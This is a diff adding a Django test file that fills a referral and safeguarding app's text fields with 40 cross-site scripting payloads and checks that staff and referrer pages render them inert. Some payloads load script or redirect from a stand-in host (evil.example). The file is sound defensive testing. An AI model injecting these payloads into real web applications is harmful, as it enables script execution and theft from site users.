@@ -1,0 +1,161 @@
+"""What people type is shown as what they typed, and never runs (security.md C2)."""
+
+import html5lib
+import pytest
+from django.db import models
+from django.urls import reverse
+
+from accounts.enums import Role
+from referrals.models import Decision, Note, Referral, ReferredYoungPerson, SafetyAnswers
+from tests.access.visitors import referrer_client, staff_client
+from tests.factories.accounts import MembershipFactory, UserFactory
+from tests.factories.referrals import ReferralDraftFactory, ReferralFactory
+from tests.factories.safeguarding import ConcernFactory
+from tests.referrals.public import answers
+
+pytestmark = pytest.mark.django_db
+
+PAYLOADS = [
+    "<script>canary()</script>",
+    "</title><script>canary()</script>",
+    "</textarea><script>canary()</script>",
+    "</script><script>canary()</script>",
+    "<ScRiPt>canary()</ScRiPt>",
+    "<script src=//evil.example/x.js></script>",
+    "<<script>canary();//<</script>",
+    "<img src=x onerror=canary()>",
+    "<img/src/onerror=canary()>",
+    '<img src="x" onerror="canary()">',
+    '"><img src=x onerror=canary()>',
+    "'><img src=x onerror=canary()>",
+    '" onmouseover="canary()',
+    "' onmouseover='canary()",
+    '" autofocus onfocus="canary()" x="',
+    "<svg onload=canary()>",
+    "<svg><script>canary()</script></svg>",
+    "<svg><animate onbegin=canary() attributeName=x>",
+    "<math><mtext></form><form><mglyph><style></math><img src onerror=canary()>",
+    "<iframe src=javascript:canary()>",
+    "<iframe srcdoc='<script>canary()</script>'>",
+    "<object data=javascript:canary()>",
+    "<embed src=javascript:canary()>",
+    "<a href=javascript:canary()>x</a>",
+    '<a href="java\tscript:canary()">x</a>',
+    "javascript:canary()",
+    "<form action=javascript:canary()><button>x",
+    "<button formaction=javascript:canary()>x",
+    "<body onload=canary()>",
+    "<base href=//evil.example/>",
+    "<link rel=stylesheet href=//evil.example/x.css>",
+    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
+    "<style>*{background:url(//evil.example/)}</style>",
+    "<details open ontoggle=canary()>",
+    "<video><source onerror=canary()></video>",
+    "<div hx-get=//evil.example/ hx-trigger=load></div>",
+    "<div data-exit=//evil.example/></div>",
+    "{{ 7|add:7 }}{% debug %}",
+    "&lt;script&gt;canary()&lt;/script&gt;",
+    "<!--><script>canary()</script>-->",
+]
+
+
+def test_there_are_forty_payloads():
+    assert len(set(PAYLOADS)) == 40
+
+
+def faults(response):
+    """What of a page is not ours: a script without a file of ours, a handler, a frame, an address that runs."""
+    assert response.status_code == 200, response.status_code
+    tree = html5lib.parse(response.content, namespaceHTMLElements=False)
+    found = []
+    for element in tree.iter():
+        if not isinstance(element.tag, str):
+            continue
+        attributes = {name if isinstance(name, str) else name[1]: value for name, value in element.attrib.items()}
+        found += [f"{element.tag} {name}" for name in attributes if name.lower().startswith("on")]
+        found += [
+            f"{element.tag} {name}={value}"
+            for name, value in attributes.items()
+            if name in {"href", "src", "action", "formaction", "data", "hx-get", "hx-post"}
+            and ("script:" in value.lower() or "evil.example" in value)
+        ]
+        if element.tag in {"iframe", "object", "embed", "base", "style", "math", "video", "animate"}:
+            found.append(element.tag)
+        if element.tag == "script" and not attributes.get("src", "").startswith("/static/"):
+            found.append("script")
+        if "srcdoc" in attributes or "style" in attributes:
+            found.append(f"{element.tag} with srcdoc or style")
+    return found
+
+
+def text_of(response):
+    tree = html5lib.parse(response.content, namespaceHTMLElements=False)
+    return " ".join(" ".join(tree.itertext()).split())
+
+
+def texts(model, payload, *, but=()):
+    """Every text field of ``model`` that people fill in, filled with ``payload`` as far as it fits."""
+    fields = {}
+    for field in model._meta.get_fields():
+        is_text = isinstance(field, (models.CharField, models.TextField)) and not field.choices
+        if is_text and field.name not in but:
+            fields[field.name] = payload[: field.max_length] if field.max_length else payload
+    return fields
+
+
+@pytest.fixture
+def colleague():
+    return MembershipFactory(user=UserFactory(with_factor=True), role=Role.TEAM_MANAGER)
+
+
+@pytest.mark.parametrize("payload", PAYLOADS)
+def test_staff_read_what_was_typed_and_nothing_runs(payload, colleague):
+    referral = ReferralFactory(centre=colleague.centre, waiting=True, in_danger=True)
+    Referral.objects.update(**texts(Referral, payload, but={"reference", "referrer_email"}))
+    ReferredYoungPerson.objects.update(**texts(ReferredYoungPerson, payload))
+    SafetyAnswers.objects.update(**texts(SafetyAnswers, payload))
+    Decision.objects.update(explanation=payload, suggestion=payload)
+    Note.objects.create(referral=referral, text=payload, by=colleague.user)
+    concern = ConcernFactory(subject=referral.subject, what=payload, done_now=payload)
+    client = staff_client(colleague.user)
+
+    pages = [
+        client.get(address)
+        for address in [
+            reverse("home"),
+            reverse("triage:queue"),
+            referral.get_absolute_url(),
+            reverse("triage:decide", args=[referral.reference]),
+            reverse("triage:second_person", args=[referral.reference]),
+            reverse("safeguarding:concerns"),
+            reverse("safeguarding:concern", args=[concern.key]),
+        ]
+    ]
+
+    assert [faults(page) for page in pages] == [[]] * 7
+    assert " ".join(payload.split()) in text_of(pages[2])
+
+
+@pytest.mark.parametrize("payload", PAYLOADS)
+def test_referrers_read_their_own_words_and_nothing_runs(payload):
+    email = "referrer@school.example"
+    typed = {
+        "about-you": answers.ABOUT_YOU,
+        "young-person": answers.YOUNG_PERSON,
+        "concerns": answers.CONCERNS,
+        "safety": answers.SAFETY,
+    }
+    draft = ReferralDraftFactory(
+        email=email,
+        answers={slug: dict.fromkeys(values, [payload]) for slug, values in typed.items()},
+    )
+    sent = ReferralFactory(referrer_email=email, not_accepted=True)
+    Decision.objects.update(explanation=payload, suggestion=payload)
+    client = referrer_client(email)
+
+    pages = [client.get(reverse("refer:section", args=[draft.pk, slug])) for slug in typed]
+    pages += [client.get(reverse("refer:check_answers", args=[draft.pk])), client.get(reverse("refer:mine"))]
+    pages += [client.get(reverse("refer:outcome", args=[sent.form_token]))]
+
+    assert [faults(page) for page in pages] == [[]] * 7
+    assert " ".join(payload.split()) in text_of(pages[-1])
